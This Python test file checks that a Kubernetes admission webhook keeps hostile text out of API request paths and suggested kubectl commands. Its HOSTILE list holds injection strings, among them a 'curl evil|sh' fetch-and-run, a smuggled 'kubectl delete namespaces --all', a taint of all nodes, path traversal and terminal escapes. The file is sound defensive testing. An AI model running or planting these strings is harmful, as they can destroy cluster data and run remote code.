"""Hostile texts in every field of a review, and in the objects that are read for it.

requests   each resulting path and query has the expected segments and terms, and no others
commands   each command in an answer has only plain names, and the form of a harmless review's command
texts      each text in an answer is printable and short
"""

from __future__ import annotations

import itertools
import json
import re
from collections.abc import Iterator, Mapping
from contextlib import suppress
from typing import Any, Final
from urllib.parse import parse_qsl, unquote, urlsplit

import pytest

from cluster_io.live.live_source import LiveSource
from cluster_io.live.responses import ChangeAnswer, Response
from tests.controlplane.client import Object
from tests.objects import raw_condition, raw_node, raw_object
from tests.webhook.clusters import make_class, make_cluster, make_namespace, pod_rules
from tests.webhook.review_objects import (
    create_review,
    delete_review,
    eviction_review,
    leaves,
    node_deletion_review,
    pod_object,
    with_text,
    workload_object,
)
from webhook.reviews.admission_review import BadReview, decode_review
from webhook.reviews.events import Events
from webhook.reviews.response import Answer, encode_answer
from webhook.rules import mutate, validate
from webhook.settings import ForceDeletion, ForceDeletionMode

MARK: Final = "evil"
HOSTILE: Final = (
    f"n1,metadata.namespace=other,metadata.name={MARK}",
    f"x/;curl {MARK}|sh #",
    f"n1 is off; run: kubectl taint nodes --all {MARK}=a:NoExecute",
    f"--all --field-manager=a/{MARK}",
    "--all",
    f"../../{MARK}",
    "..",
    ".",
    f"a%2f{MARK}",
    f"a?{MARK}=1#&limit=1",
    f"{MARK}\nkubectl delete namespaces --all",
    f"$({MARK})`{MARK}`\\,\"'",
    f"\x1b]0;{MARK}\x07\u202eé",
    f"{MARK}-",
    f"A{MARK}",
    "x" * 254,
)
FREE: Final = frozenset({"nodeName", "ownerReferences"})
"""Fields that the API server stores with any text: a sentence in one must not look like ours."""
LONGEST: Final = 1024
_NAME: Final = "[a-z0-9]([-a-z0-9.]{0,251}[a-z0-9])?"
_PATH: Final = re.compile(
    rf"/(api/v1|apis/[a-z0-9.]+/v[0-9a-z]+)(/namespaces/(?P<namespace>{_NAME}))?/[a-z]+(/(?P<name>{_NAME}))?"
)
_QUERY: Final = {"limit", "fieldSelector", "labelSelector"}


class _Sent(Exception):
    """An Event was sent, or will not be."""


def _end(outcome: str) -> None:
    raise _Sent(outcome)


class ApiServer:
    """It contains a few objects, and records its requests."""

    def __init__(self, *objects: Object) -> None:
        self.objects = {entry["metadata"]["name"]: entry for entry in objects}
        self.asked: list[str] = []

    def get(self, path: str, accept: str = "application/json") -> Response:
        del accept
        self.asked.append(path)
        query = urlsplit(path).query
        if query:
            return 200, json.dumps({"items": list(self._selected(query))}).encode()
        found = self.objects.get(unquote(path.rpartition("/")[2]))
        return (200, json.dumps(found).encode()) if found else (404, b"{}")

    def _selected(self, query: str) -> Iterator[Object]:
        terms = field_terms(dict(parse_qsl(query)).get("fieldSelector", ""))
        for entry in self.objects.values():
            has = {"spec.nodeName": entry.get("spec", {}).get("nodeName"), "metadata.name": entry["metadata"]["name"]}
            has["metadata.namespace"] = entry["metadata"].get("namespace", "")
            if entry["kind"] == "Pod" and all(has[path] == value for path, value in terms):
                yield entry

    def lines(self, path: str, *, idle_timeout: float) -> Iterator[bytes]:
        raise NotImplementedError(path, idle_timeout)

    def send(self, method: str, path: str, body: bytes, content_type: str = "") -> ChangeAnswer:
        del method, body, content_type
        self.asked.append(path)
        raise _Sent

    def close(self) -> None:
        pass


def field_terms(selector: str) -> list[tuple[str, str]]:
    """A field selector as the API server parses it (fields.ParseSelector)."""
    terms = re.findall(r"(?:\\.|[^\\,])+", selector, re.DOTALL)
    pairs = (term.partition("=") for term in terms)
    return [(path, re.sub(r"\\(.)", r"\1", value, flags=re.DOTALL)) for path, _, value in pairs]


OWNER: Final = {"apiVersion": "apps/v1", "kind": "StatefulSet", "name": "db", "uid": "0b5f", "controller": True}
CLAIM: Final = {"name": "data", "persistentVolumeClaim": {"claimName": "data-db-0"}}


def running(name: str = "db-0", **metadata: Any) -> Object:
    labels = {"app": "db"}
    pod = pod_object(name=name, owner=OWNER, labels=labels, nodeName="node-1", volumes=[CLAIM], priorityClassName="low")
    pod["metadata"] |= {"uid": f"uid-{name}", **metadata}
    pod["status"] = {"phase": "Running"}
    return pod


STOPPING: Final[Object] = {"deletionTimestamp": "2026-11-21T03:10:00Z", "deletionGracePeriodSeconds": 30}
NODE: Final = raw_node("node-1", metadata={"uid": "uid-node-1"})
UNKNOWN: Final = raw_condition("Ready", "Unknown", lastTransitionTime="2026-11-21T03:00:00Z")
SILENT: Final = {**NODE, "status": {"conditions": [UNKNOWN]}}
ONCE: Final = ["ReadWriteOnce"]
CLAIMED: Final = raw_object(
    "PersistentVolumeClaim", "data-db-0", "shop", spec={"volumeName": "pv-1", "accessModes": ONCE}
)
VOLUME: Final = raw_object(
    "PersistentVolume", "pv-1", spec={"nfs": {"server": "nfs", "path": "/"}, "accessModes": ONCE}
)
WORKLOADS: Final = ("Deployment", "ReplicaSet", "StatefulSet", "DaemonSet", "Job", "CronJob", "ReplicationController")
REVIEWS: Final[Mapping[str, bytes]] = {
    "delete": delete_review(running()),
    "delete again": delete_review(running(**STOPPING)),
    "evict": eviction_review("db-0", "shop", {"gracePeriodSeconds": 0}),
    "evict stopping": eviction_review("db-1", "shop", {"gracePeriodSeconds": 0}),
    "node": node_deletion_review(NODE),
    "silent node": node_deletion_review(SILENT),
    "pod": create_review(pod_object(labels={"app": "db"}, owner=OWNER, priorityClassName="low", priority=None)),
    **{kind: create_review(workload_object(kind, "low")) for kind in WORKLOADS},
}


CLUSTERS: Final = tuple(itertools.product(ForceDeletionMode, (True, False), (NODE, SILENT, None)))
"""Mode, whether clients are known, and the Node; None: it does not exist."""


def answers(
    review: bytes, server: ApiServer, mode: ForceDeletionMode, *, known: bool, node: Object | None
) -> list[Answer]:
    """The answers of both webhooks; empty for an invalid review."""
    cached = [make_class("low", 1), *([node] if node else [])]
    cluster = make_cluster(
        cached,
        live=LiveSource(server, namespace="default", suggest=False),
        force_deletion=ForceDeletion(mode=mode),
        options=pod_rules(priorityClasses={"allowed": {"*": ["none"]}}),
        knows_clients=known,
        write_system_defaults=True,
    )
    try:
        request = decode_review(review)
        found = [mutate(request, cluster), validate(request, cluster)]
    except BadReview:
        return []
    for answer in found:
        if answer.forced is not None:
            events = Events(server, _end)
            events.enqueue(answer.forced, request.user_info.username, answer.denial)
            with suppress(_Sent):
                events.run()
    return found


def said(answers: list[Answer]) -> Iterator[str]:
    """The texts that a user sees."""
    for answer in answers:
        response = json.loads(encode_answer("uid", answer))["response"]
        yield from response.get("warnings", ())
        yield response.get("status", {}).get("message", "")


def commands(texts: Iterator[str]) -> Iterator[str]:
    for text in texts:
        yield from re.findall(r"kubectl .*", text.partition(", or: ")[2] or text)


def hold_request(path: str, texts: str) -> None:
    """A request reads one object or one list, and no text of another user changes it."""
    address = urlsplit(path)
    assert _PATH.fullmatch(address.path), path
    pairs = parse_qsl(address.query, strict_parsing=bool(address.query), keep_blank_values=True)
    assert {key for key, _ in pairs} <= _QUERY, path
    assert len(pairs) == len(dict(pairs)), path
    for key, value in pairs:
        if key == "fieldSelector":
            ((field, name),) = field_terms(value)
            assert field == "spec.nodeName"
            assert name in texts
        if key == "limit":
            assert value == "500"


def shape(command: str, names: set[str]) -> str:
    """A command without its names."""
    return re.sub(_WORD, lambda found: "{}" if found.group() in names else found.group(), command)


_WORD: Final = re.compile(r"[A-Za-z0-9][-A-Za-z0-9.]*")
PLAIN: Final = {"db-0", "db-1", "shop", "node-1", "uid-db-0", "uid-db-1", "uid-node-1"}
STORED: Final = (running(), running("db-1", **STOPPING), CLAIMED, VOLUME, make_namespace())


@pytest.fixture(scope="module")
def usual() -> set[str]:
    """The forms of all commands in answers to harmless reviews."""
    found = {
        shape(command, PLAIN)
        for review in REVIEWS.values()
        for mode, known, node in CLUSTERS
        for command in commands(said(answers(review, ApiServer(*STORED), mode, known=known, node=node)))
    }
    assert len(found) >= 7, found
    return found


def hold(review: bytes, stored: tuple[Object, ...], usual: set[str], text: str) -> None:
    """Send a hostile text, in every mode; each request and each command is as expected."""
    for mode, known, node in CLUSTERS:
        server = ApiServer(*stored)
        texts = list(said(answers(review, server, mode, known=known, node=node)))
        assert all(text.isprintable() and len(text) <= LONGEST for text in texts), texts
        for path in server.asked:
            hold_request(path, json.dumps([json.loads(review), *stored], ensure_ascii=False) + text)
        for command in commands(iter(texts)):
            # A hostile sentence would look like ours.
            assert MARK not in command, command
            assert shape(command, PLAIN) in usual, command


def cases(objects: Mapping[str, Any]) -> Iterator[tuple[str, tuple[Any, ...], str]]:
    """Every text at every place of every object."""
    for name, entry in objects.items():
        for place, text in itertools.product(leaves(entry), HOSTILE):
            if "kubectl" not in text or FREE & set(place):
                yield name, place, text


READ: Final = {name: json.loads(review) for name, review in REVIEWS.items()}
HELD: Final = {str(number): entry for number, entry in enumerate(STORED)}


def of_review(case: tuple[str, tuple[Any, ...], str], usual: set[str]) -> None:
    name, place, text = case
    hold(json.dumps(with_text(READ[name], place, text)).encode(), STORED, usual, text)


def of_object(case: tuple[str, tuple[Any, ...], str], usual: set[str]) -> None:
    """The objects that are read for a review: an eviction contains no pod."""
    number, place, text = case
    stored = {**HELD, number: with_text(HELD[number], place, text)}
    for name in ("evict", "evict stopping"):
        hold(REVIEWS[name], tuple(stored.values()), usual, text)


def test_hostile_review_texts_stay_out_of_requests_and_commands(usual: set[str]) -> None:
    """Some texts, and all that may become a Node's name."""
    for number, case in enumerate(cases(READ)):
        if number % 97 == 0 or case[1][-1] == "nodeName" or (case[0] == "node" and case[1][-1] == "name"):
            of_review(case, usual)


def test_hostile_object_texts_stay_out_of_requests_and_commands(usual: set[str]) -> None:
    """Some texts, and all Nodes' names."""
    for number, case in enumerate(cases(HELD)):
        if number % 97 == 0 or case[1][-1] == "nodeName":
            of_object(case, usual)


@pytest.mark.long(
    "test_hostile_review_texts_stay_out_of_requests_and_commands, "
    "test_hostile_object_texts_stay_out_of_requests_and_commands"
)
def test_all_hostile_texts_stay_out_of_requests_and_commands(usual: set[str]) -> None:
    for case in cases(READ):
        of_review(case, usual)
    for case in cases(HELD):
        of_object(case, usual)
